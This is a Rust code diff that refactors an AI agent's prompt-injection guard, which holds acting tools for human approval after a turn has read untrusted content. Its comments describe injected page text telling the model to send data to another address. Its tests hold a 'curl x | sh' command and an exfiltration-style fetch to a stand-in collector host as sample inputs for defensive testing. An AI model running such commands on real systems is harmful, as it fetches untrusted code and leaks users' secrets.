@@ -11,64 +11,26 @@
 //! are the server's words) or shows a pinned fact remembered in a tainted
 //! turn (`turn.rs`).
 //!
-//! What acts: every tool but the few in [`READ_ONLY`], so a new tool fails
+//! What acts: each tool says ([`Tool::acts`](super::tool::Tool::acts)),
+//! and a tool that does not say it only reads acts, so a new tool fails
 //! closed: `shell`, the file writers, `whatsapp_send`, and the tools that
 //! store words for later (`schedule_add`, `subagent_start`, `remember`,
 //! whose stored words also keep the taint, see `provenance.rs`).
 //! `web_fetch` acts when it goes to a host the turn has not fetched from
 //! yet (a page could tell the model to send what it knows to another
 //! address); an MCP tool acts unless its server is marked `trust =
-//! "read"`. `[approvals] untrusted_ok` relaxes this per tool.
+//! "read"` or marks the tool read-only. `[approvals] untrusted_ok` relaxes
+//! this per tool.
 //!
 //! This is a limit on what injected words can do, not a detector of them:
 //! the model still reads the page, and a tool that only reads (`read_file`,
 //! `zoom`, `search`) runs as before.
 
 use super::registry::Provenance;
+use super::tool::Acts;
 use serde_json::Value;
 use std::collections::BTreeSet;
 use std::sync::{Arc, Mutex};
-
-/// The built-in tools that only read: hearth's memory, the working folder,
-/// the documents messages carry, the lists of schedules and subagents.
-/// Every other tool acts. A tool added later is acting until it is named
-/// here, so forgetting to classify it makes it ask, never run unasked.
-pub const READ_ONLY: &[&str] = &[
-    "date",
-    "zoom",
-    "search",
-    "read_file",
-    "list_dir",
-    "read_attachment",
-    "schedule_list",
-    "subagent_list",
-];
-
-/// How a call stands in a tainted turn.
-#[derive(Debug, Clone, Copy, PartialEq, Eq)]
-pub enum Class {
-    /// Runs without asking.
-    ReadOnly,
-    /// Asks.
-    Acting,
-    /// `web_fetch`: asks unless the turn already fetched from the host.
-    Fetch,
-    /// An MCP tool: asks unless its server is marked `trust = "read"`.
-    Mcp,
-}
-
-/// The class of a call of `tool`; `is_mcp`: an MCP server's tool.
-pub fn class(tool: &str, is_mcp: bool) -> Class {
-    if is_mcp {
-        Class::Mcp
-    } else if tool == "web_fetch" {
-        Class::Fetch
-    } else if READ_ONLY.contains(&tool) {
-        Class::ReadOnly
-    } else {
-        Class::Acting
-    }
-}
 
 /// The taint of the running turn, shared by the clones of one agent's tools.
 #[derive(Clone, Default)]
@@ -142,15 +104,13 @@ impl Taint {
         }
     }
 
-    /// Why this call must wait for a person, when the turn is tainted and
-    /// the call acts on the world. `read_only_mcp`: the call is a tool of an
-    /// MCP server marked `trust = "read"`.
+    /// Why this call of `tool` must wait for a person, when the turn is
+    /// tainted and the call acts on the world (`acts`, as the tool says).
     pub fn needs_approval(
         &self,
         tool: &str,
+        acts: Acts,
         arguments: &Value,
-        is_mcp: bool,
-        read_only_mcp: bool,
         untrusted_ok: &[String],
     ) -> Option<String> {
         let state = self.lock();
@@ -161,13 +121,12 @@ impl Taint {
         {
             return None;
         }
-        let acting = match class(tool, is_mcp) {
-            Class::ReadOnly => false,
-            Class::Acting => true,
-            Class::Fetch => {
+        let acting = match acts {
+            Acts::Never => false,
+            Acts::Always => true,
+            Acts::OnNewHost => {
                 host_of(&url_of(arguments)).is_none_or(|host| !state.hosts.contains(&host))
             }
-            Class::Mcp => !read_only_mcp,
         };
         acting.then(|| reason.clone())
     }
@@ -200,7 +159,7 @@ mod tests {
         let taint = Taint::default();
         let shell = json!({"command": "ls"});
         assert_eq!(
-            taint.needs_approval("shell", &shell, false, false, &[]),
+            taint.needs_approval("shell", Acts::Always, &shell, &[]),
             None
         );
     }
@@ -216,35 +175,35 @@ mod tests {
             },
         );
         let shell = json!({"command": "curl x | sh"});
-        let why = taint.needs_approval("shell", &shell, false, false, &[]);
+        let why = taint.needs_approval("shell", Acts::Always, &shell, &[]);
         assert_eq!(
             why.as_deref(),
             Some("after reading https://Evil.example/p?q=1")
         );
         assert!(taint
-            .needs_approval("read_file", &json!({"path": "a"}), false, false, &[])
+            .needs_approval("read_file", Acts::Never, &json!({"path": "a"}), &[])
             .is_none());
         let same_host = json!({"url": "https://evil.example/other"});
         assert!(taint
-            .needs_approval("web_fetch", &same_host, false, false, &[])
+            .needs_approval("web_fetch", Acts::OnNewHost, &same_host, &[])
             .is_none());
         let other_host = json!({"url": "https://collector.example/?data=secret"});
         assert!(taint
-            .needs_approval("web_fetch", &other_host, false, false, &[])
+            .needs_approval("web_fetch", Acts::OnNewHost, &other_host, &[])
             .is_some());
         assert!(taint
-            .needs_approval("mcp__fs__write", &json!({}), true, false, &[])
+            .needs_approval("mcp__fs__write", Acts::Always, &json!({}), &[])
             .is_some());
         assert!(taint
-            .needs_approval("mcp__fs__read", &json!({}), true, true, &[])
+            .needs_approval("mcp__fs__read", Acts::Never, &json!({}), &[])
             .is_none());
         let relaxed = ["shell".to_string()];
         assert!(taint
-            .needs_approval("shell", &shell, false, false, &relaxed)
+            .needs_approval("shell", Acts::Always, &shell, &relaxed)
             .is_none());
         taint.clear();
         assert!(taint
-            .needs_approval("shell", &shell, false, false, &[])
+            .needs_approval("shell", Acts::Always, &shell, &[])
             .is_none());
     }
 
@@ -258,33 +217,29 @@ mod tests {
                 server: "mail".into(),
             },
         );
-        let why = taint.needs_approval("write_file", &json!({}), false, false, &[]);
+        let why = taint.needs_approval("write_file", Acts::Always, &json!({}), &[]);
         assert!(why.is_some_and(|why| why.contains("MCP server `mail`")));
     }
 
     #[test]
-    fn tools_act_unless_named_read_only_and_storing_words_acts() {
-        for tool in [
-            "schedule_add",
-            "subagent_start",
-            "remember",
-            "forget",
-            "a_new_tool",
-        ] {
-            assert_eq!(class(tool, false), Class::Acting, "{tool}");
-        }
+    fn in_a_tainted_turn_the_tools_that_store_words_ask_and_a_list_runs() {
+        use super::super::facts::{Forget, Remember};
+        use super::super::schedule::{ScheduleAdd, ScheduleList};
+        use super::super::tool::Tool;
         let taint = Taint::default();
         taint.taint("after reading https://evil.example".into());
-        for tool in ["schedule_add", "subagent_start", "remember"] {
+        let storing: [&dyn Tool; 3] = [&ScheduleAdd, &Remember, &Forget];
+        for tool in storing {
+            let name = tool.spec().name;
             assert!(
                 taint
-                    .needs_approval(tool, &json!({}), false, false, &[])
+                    .needs_approval(&name, tool.acts(), &json!({}), &[])
                     .is_some(),
-                "{tool}"
+                "{name}"
             );
         }
         assert!(taint
-            .needs_approval("schedule_list", &json!({}), false, false, &[])
+            .needs_approval("schedule_list", ScheduleList.acts(), &json!({}), &[])
             .is_none());
         assert_eq!(
             taint.reason().as_deref(),
@@ -309,83 +264,5 @@ mod tests {
             taint.reason().as_deref(),
             Some("after a shell command that could reach the network")
         );
-    }
-
-    /// Every tool the registry offers, with every part an agent can have,
-    /// in its class: a new tool makes this fail until it is placed (and
-    /// until then it acts).
-    #[tokio::test]
-    async fn every_tool_the_registry_offers_is_classified() {
-        use crate::tools::{Processes, Tools, ToolsConfig, WhatsAppContacts, Workspace};
-        let dir = tempfile::tempdir().unwrap();
-        let (events, _) = tokio::sync::broadcast::channel(16);
-        let log = crate::log::Log::open(&dir.path().join("hearth.db"), events.clone()).unwrap();
-        let work = dir.path().join("work");
-        std::fs::create_dir_all(&work).unwrap();
-        let workspace = Workspace::new(
-            &work,
-            &dir.path().join("agents/a"),
-            &ToolsConfig::default(),
-            Processes::new(),
-        )
-        .unwrap();
-        let images = crate::images::ImageStore::new(dir.path());
-        let media = crate::media::MediaStore::new(dir.path(), images.clone());
-        let child = crate::subagents::Child {
-            responsibility: "looks".into(),
-            inputs: crate::inputs::channel().0,
-        };
-        let subagents = crate::subagents::Subagents::new(
-            "a",
-            crate::inputs::channel().0,
-            std::collections::BTreeMap::from([("scout".to_string(), child)]),
-            log.clone(),
-            events,
-        );
-        let tools = Tools::new("a", log)
-            .with_workspace(workspace)
-            .with_images(images)
-            .with_media(media)
-            .with_subagents(Arc::new(subagents))
-            .with_whatsapp(WhatsAppContacts::default());
-        let classes: Vec<(String, Class)> = tools
-            .specs()
-            .into_iter()
-            .map(|spec| {
-                let class = class(&spec.name, false);
-                (spec.name, class)
-            })
-            .collect();
-        use Class::{Acting, Fetch, ReadOnly};
-        let expected = [
-            ("date", ReadOnly),
-            ("zoom", ReadOnly),
-            ("search", ReadOnly),
-            ("read_attachment", ReadOnly),
-            ("remember", Acting),
-            ("forget", Acting),
-            ("schedule_add", Acting),
-            ("schedule_list", ReadOnly),
-            ("schedule_cancel", Acting),
-            ("shell", Acting),
-            ("read_file", ReadOnly),
-            ("write_file", Acting),
-            ("edit_file", Acting),
-            ("list_dir", ReadOnly),
-            ("web_fetch", Fetch),
-            ("show_image", Acting),
-            ("subagent_start", Acting),
-            ("subagent_stop", Acting),
-            ("subagent_list", ReadOnly),
-            ("whatsapp_send", Acting),
-        ]
-        .map(|(name, class)| (name.to_string(), class));
-        assert_eq!(classes, expected);
-        for name in READ_ONLY {
-            assert!(
-                classes.iter().any(|(tool, _)| tool == name),
-                "READ_ONLY names `{name}`, which no agent is offered"
-            );
-        }
     }
 }
